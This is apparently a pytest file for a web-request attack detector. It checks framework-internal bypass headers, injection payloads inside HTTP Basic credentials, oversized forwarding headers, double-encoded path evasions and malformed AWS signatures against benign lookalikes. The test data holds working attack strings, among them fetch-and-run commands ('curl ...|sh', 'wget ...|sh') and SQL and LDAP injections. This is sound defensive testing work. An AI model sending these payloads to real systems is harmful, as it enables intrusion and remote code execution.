"""Round 10 CVE classes: framework-internal headers, Basic credentials as points, oversized client-address headers,
double-encoded unreserved characters and extension path parameters."""
from __future__ import annotations

import base64

import pytest

from sensor.detect import Engine, verdict
from sensor.detect.rawrequest import parse_raw
from tests.detect.conftest import req

E = Engine()
UA = ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Chrome/120.0.0.0 Safari/537.36")


def _v(r) -> str:
    return verdict(E.inspect(r))


def _basic(user: str, password: str | None) -> str:
    text = user if password is None else f"{user}:{password}"
    return "Basic " + base64.b64encode(text.encode()).decode()


# --- 1. headers only a framework writes for itself
INTERNAL_ATTACKS = [
    ("x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"),
    ("x-middleware-subrequest", "src/middleware:src/middleware:src/middleware:src/middleware:src/middleware"),
    ("X-Middleware-Subrequest", "pages/_middleware"),
    ("x-middleware-subrequest", "middleware"),
    ("x-now-route-matches", "1"),
    ("X-Now-Route-Matches", "nxtPslug=..%2Fadmin"),
    ("x-invoke-path", "/api/admin"),
    ("x-middleware-invoke", "1"),
]
INTERNAL_BENIGN = [
    ("x-middleware-prefetch", "1"),      # the Next.js client router's prefetch
    ("x-nextjs-data", "1"),              # the client router's data request
    ("rsc", "1"),
    ("next-router-state-tree", "%5B%22%22%2C%7B%22children%22%3A%5B%22__PAGE__%22%2C%7B%7D%5D%7D%2Cnull%2Cnull%2Ctrue%5D"),
    ("x-vercel-protection-bypass", "f3b1c2d4e5f60718293a4b5c6d7e8f90"),
    ("x-middleware-cache", "no-cache"),
    ("x-request-id", "middleware:middleware"),
]


@pytest.mark.parametrize("name,value", INTERNAL_ATTACKS)
def test_internal_header_attack(name: str, value: str) -> None:
    assert _v(req("/dashboard", headers=[UA, (name, value)])) == "attack"


@pytest.mark.parametrize("name,value", INTERNAL_BENIGN)
def test_internal_header_lookalike_clean(name: str, value: str) -> None:
    assert _v(req("/dashboard", headers=[UA, (name, value)])) != "attack"


# --- 2. HTTP Basic credentials are points
BASIC_BENIGN = [
    ("alice", "correct horse battery staple"),
    ("bob@example.com", "p@ss;word'!"),
    ("admin", "P@ssw0rd!"),
    ("svc-deploy", "Xk9#mQ2$vL7&pR4*"),
    ("o'brien", "S3cr3t!#%&*()"),
    ("jdoe", "!QAZ2wsx#EDC"),
    ("ci", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"),
    ("user", "pa$$w0rd;"),
    ("user", 'my"pass|word'),
    ("Łukasz", "zażółć-gęślą-jaźń"),
    ("apikey", ""),
    ("alice", "a:b:c"),
    # generated passwords whose symbols fall into injection shapes by chance
    ("deploy", "urr`4UNZEo`A`>Ni"),
    ("deploy", "tv6';truk{GET'OvJ8N"),
    ("deploy", "LpQ~`#2#.yMK+@#Y+e9"),
    ("deploy", "Gg^L`$OzA"),
    ("deploy", "Echo;winter472_"),
    ("deploy", "'||'1'='1"),
    # people's names that are also tool names
    ("j.vega", "Winter2024!"),
    ("medusa", "hunter2"),
]
BASIC_ATTACKS = [
    ("';curl http://45.61.1.9/lb.sh|sh;echo '", "x"),
    ("admin' OR '1'='1' -- ", "x"),
    ("admin", "' or 1=1--"),
    ("root", "$(wget -qO- http://203.0.113.9/x|sh)"),
    ("`id`", "x"),
    ("*)(uid=*))(|(uid=*", "x"),
]


@pytest.mark.parametrize("user,password", BASIC_BENIGN)
def test_basic_credentials_clean(user: str, password: str) -> None:
    assert _v(req("/api/v1/status", headers=[UA, ("Authorization", _basic(user, password))])) != "attack"


@pytest.mark.parametrize("user,password", BASIC_ATTACKS)
def test_basic_credentials_attack(user: str, password: str) -> None:
    assert _v(req("/access/set?param=enableapi&value=1",
                  headers=[UA, ("Authorization", _basic(user, password))])) == "attack"


def test_basic_proxy_authorization_attack() -> None:
    assert _v(req("/", headers=[UA, ("Proxy-Authorization", _basic("x;curl 203.0.113.9|sh;", "y"))])) == "attack"


def test_basic_points_present() -> None:
    hits = E.inspect(req("/", headers=[("Authorization", _basic("';id;echo '", "pw"))]))
    assert any(h.point[-2:] == ["basic", "username"] for h in hits)


def test_reported_password_is_not_logged() -> None:
    hits = E.inspect(req("/", headers=[("Authorization", _basic("deploy", "'||'1'='1"))]))
    on_password = [h for h in hits if h.point[2:4] == ["basic", "password"]]
    assert on_password and all("'1'" not in h.value for h in on_password)


@pytest.mark.parametrize("value", ["Basic", "Basic ", "Basic !!!notbase64!!!", "Basic YWxpY2U6c2VjcmV0=====",
                                   "Basic " + base64.b64encode(b"\xff\xfe\x00\x01:\x80").decode(),
                                   "Basic " + "A" * 10000, "basic YWxpY2U", "Basic YWxpY2U6c2VjcmV0"])
def test_basic_malformed_does_not_crash(value: str) -> None:
    hits = E.inspect(req("/", headers=[("Authorization", value)]))
    assert not any(h.rule in ("parser_error", "detector_error") for h in hits)
    assert verdict(hits) != "attack"


# --- 3. a client-address header that is no list of addresses
XFF_BENIGN = [
    ", ".join(f"10.{i}.{i}.{i}" for i in range(40)),
    ", ".join(f"2001:db8:{i:x}::{i:x}" for i in range(20)),
    "203.0.113.7:51432, [2001:db8::17]:4711, unknown, 10.0.0.1, 192.168.100.200:8080, 172.16.0.1" * 3,
    ", ".join(["unknown"] * 30),
    "client-17.corp.example.com, edge-proxy-03.eu-west-1.compute.internal, 10.0.0.5, lb.example.net" * 2,
    "fe80::1%eth0, 198.51.100.23, " + ", ".join(f"100.64.{i}.1" for i in range(20)),
]
FORWARDED_BENIGN = [
    ", ".join(f'for="_hidden{i}";proto=https;by=_proxy{i}' for i in range(8)),
    'for=192.0.2.43;proto=https;host=shop.example, for="[2001:db8:cafe::17]:4711";by=203.0.113.43, '
    'for=unknown;by="_gazonk";proto=http, for=198.51.100.17;host="shop.example:443"',
]
XFF_ATTACKS = [
    "1" * 300,
    "A" * 2000,
    "127.0.0.1, " + "%n" * 200,
    "10.0.0.1," + "B" * 400,
    "1.2.3.4 " + "x" * 300,
]


@pytest.mark.parametrize("value", XFF_BENIGN)
def test_xff_chain_clean(value: str) -> None:
    assert len(value) > 128
    assert _v(req("/", headers=[UA, ("X-Forwarded-For", value)])) != "attack"


@pytest.mark.parametrize("value", FORWARDED_BENIGN)
def test_forwarded_chain_clean(value: str) -> None:
    assert len(value) > 128
    assert _v(req("/", headers=[UA, ("Forwarded", value), ("X-Forwarded-For", "192.0.2.43")])) != "attack"


@pytest.mark.parametrize("value", XFF_ATTACKS)
@pytest.mark.parametrize("name", ["X-Forwarded-For", "X-Real-IP", "True-Client-IP"])
def test_xff_overflow_attack(name: str, value: str) -> None:
    assert _v(req("/dana-na/auth/url_default/welcome.cgi", headers=[UA, (name, value)])) == "attack"


def test_forwarded_overflow_attack() -> None:
    assert _v(req("/", headers=[UA, ("Forwarded", "for=" + "1" * 400)])) == "attack"


# --- 4. double-encoded unreserved characters; extension path parameters
PATH_ATTACKS = [
    "/%2577ebui_wsma_HTTP",
    "/%2561dmin/users",
    "/api/%25761/secret",
    "/static/..%252e/%2565tc/passwd",
    "/hax?jsp=/app/rest/users;.jsp",
    "/app/rest/users;.jsp",
    "/app/rest/users/id:1/tokens;.jsp",
    "/admin;.css",
    "/api/v1/admin/config;x.js",
    "/manager/html%3b.jsp",
    "/console;.php?cmd=x",
]
PATH_BENIGN = [
    "/search?q=100%25",
    "/search?q=50%2541",                    # a literal `%41` searched for, in a query
    "/tag/100%2520cotton",                   # a space encoded twice (a reserved character)
    "/files/report%252Fq1.pdf",              # an encoded slash encoded again (reserved)
    "/shop/cart;jsessionid=8F2C1B7A0E9D4F3A",
    "/index.jsp;jsessionid=8F2C1B7A0E9D4F3A.node1?x=1",
    "/cars;color=red;year=2012/models",
    "/app/rest/users;locator=name:bob",
    "/res;v=1.2.3/app.js",
    "/page.jsp;jsessionid=abc",
    "/downloads/report;final.pdf",
    "/api/items?ids=1;2;3&sort=name.asc",
    "/wiki/Special:Search?search=a;b.c",
]


@pytest.mark.parametrize("target", PATH_ATTACKS)
def test_path_evasion_attack(target: str) -> None:
    assert _v(req(target, headers=[UA])) == "attack"


@pytest.mark.parametrize("target", PATH_BENIGN)
def test_path_evasion_clean(target: str) -> None:
    assert _v(req(target, headers=[UA])) != "attack"


def test_raw_teamcity_request() -> None:
    r = parse_raw(b"POST /hax?jsp=/app/rest/users;.jsp HTTP/1.1\r\nHost: ci.example.com\r\n"
                  b"Content-Type: application/json\r\nContent-Length: 2\r\n\r\n{}")
    assert _v(r) == "attack"


# --- 5. a query string that is a long command-line option (PHP register_argc_argv, Laravel CVE-2024-52301)
@pytest.mark.parametrize("target", ["/?--env=local", "/index.php?--env=production&x=1", "/?%2d%2denv=local",
                                    "/public/?--env=testing+--debug"])
def test_argv_option_attack(target: str) -> None:
    assert _v(req(target, headers=[UA])) == "attack"


@pytest.mark.parametrize("target", ["/?--", "/search?q=--env", "/p?utm=--x&a=1", "/?---", "/?--1=2",
                                    "/docs?section=cli--env", "/?-"])
def test_argv_option_clean(target: str) -> None:
    assert _v(req(target, headers=[UA])) != "attack"


# --- 6. an AWS Signature V4 Authorization without its scope, signed headers or signature (CrushFTP CVE-2025-31161)
_SIG = "fe5f80f77d5fa3beca038a248ff027d0445342fe2855ddc963176630326f1024"
SIGV4_BENIGN = [
    f"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20130524/us-east-1/s3/aws4_request, "
    f"SignedHeaders=host;range;x-amz-date, Signature={_SIG}",
    f"AWS4-HMAC-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240101/eu-west-1/execute-api/aws4_request,"
    f"SignedHeaders=content-type;host;x-amz-date;x-amz-security-token,Signature={_SIG}",
    f"AWS4-ECDSA-P256-SHA256 Credential=AKIAIOSFODNN7EXAMPLE/20240101/s3/aws4_request, "
    f"SignedHeaders=host;x-amz-date;x-amz-region-set, Signature=3045022100{_SIG}0220{_SIG}",
]
SIGV4_ATTACKS = [
    "AWS4-HMAC-SHA256 Credential=crushadmin/",
    "AWS4-HMAC-SHA256 Credential=admin/20250101/us-east-1/s3/aws4_request",
    "AWS4-HMAC-SHA256 Credential=root/20250101/us-east-1/s3/aws4_request, SignedHeaders=host, Signature=abc",
    "aws4-hmac-sha256 Credential=crushadmin/x",
]


@pytest.mark.parametrize("value", SIGV4_BENIGN)
def test_sigv4_clean(value: str) -> None:
    assert _v(req("/bucket/key.txt", headers=[UA, ("Authorization", value)])) != "attack"


@pytest.mark.parametrize("value", SIGV4_ATTACKS)
def test_sigv4_incomplete_attack(value: str) -> None:
    assert _v(req("/WebInterface/function/?command=getUserList", headers=[UA, ("Authorization", value)])) == "attack"
